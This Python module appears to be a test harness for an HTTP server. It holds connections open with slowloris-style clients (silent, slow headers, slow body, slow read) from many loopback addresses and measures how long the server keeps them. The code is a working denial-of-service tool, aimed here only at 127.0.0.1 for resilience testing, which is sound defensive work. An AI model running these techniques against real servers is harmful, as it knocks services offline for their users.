"""Clients that mean harm by being slow, in a process of their own, from many addresses."""

from __future__ import annotations

import contextlib
import multiprocessing
import os
import select
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

from visitor import Node

# One address may have so many connections.
EACH = 50


@dataclass
class Slow:
    """What a slow client begins with, and what it adds every second."""

    begin: bytes
    drop: bytes
    reads: bool = True


@dataclass
class Held:
    """How long the server kept those that it ended, and how many were there at most."""

    lives: list[float] = field(default_factory=list)
    most: int = 0


def kinds(node: Node, asset: str) -> dict[str, Slow]:
    """As slowhttptest has them: -H, -B and -X; and those who say nothing at all."""
    host = f"Host: {node.authority}\r\n"
    form = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 9000\r\n\r\na="
    return {
        "silent": Slow(b"", b""),
        "headers": Slow(f"GET / HTTP/1.1\r\n{host}".encode(), b"X-a: b\r\n"),
        "body": Slow(f"POST /oauth/token HTTP/1.1\r\n{host}{form}".encode(), b"b"),
        "read": Slow(node.get(asset) * 10, b"", reads=False),
    }


@contextlib.contextmanager
def attack(node: Node, slow: Slow, connections: int) -> Iterator[Held]:
    """Hold as many connections as the server lets us, until the block ends."""
    ours, theirs = multiprocessing.Pipe()
    process = multiprocessing.get_context("fork").Process(
        target=_hold, args=(theirs, node.port, slow, connections), daemon=True
    )
    process.start()
    held = Held()
    try:
        yield held
    finally:
        ours.send("stop")
        held.lives, held.most = ours.recv()
        process.join()


def _hold(pipe, port: int, slow: Slow, connections: int) -> None:
    """Once a second a drop for each; who was hung up on comes again."""
    os.nice(19)  # its own work is not what is measured, and it shares this machine
    open_ones: dict[int, tuple[socket.socket, int, float]] = {}
    free = list(range(connections))
    lives: list[float] = []
    most, drop_at = 0, time.monotonic() + 1
    ends = select.epoll()
    while not pipe.poll():
        for _ in range(min(len(free), 100)):
            number = free.pop(0)
            one = _begin(port, slow, number)
            if one is None:
                free.append(number)
                continue
            open_ones[one.fileno()] = (one, number, time.monotonic())
            ends.register(one, select.EPOLLRDHUP)
        most = max(most, len(open_ones))
        if slow.drop and time.monotonic() > drop_at:
            drop_at += 1
            for one, _, _ in open_ones.values():
                with contextlib.suppress(OSError):
                    one.send(slow.drop)
        for descriptor, _ in ends.poll(0.01 if free else 0.1, connections):
            one, number, since = open_ones.pop(descriptor)
            lives.append(time.monotonic() - since)
            one.close()
            free.append(number)
    pipe.send((lives, most))


def _begin(port: int, slow: Slow, number: int) -> socket.socket | None:
    one = socket.socket()
    try:
        if not slow.reads:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        one.bind((f"127.0.1.{1 + number // EACH}", 0))
        one.settimeout(0.2)
        one.connect(("127.0.0.1", port))
        one.setblocking(False)
        if slow.begin:
            one.send(slow.begin)
    except OSError:
        one.close()
        return None
    return one
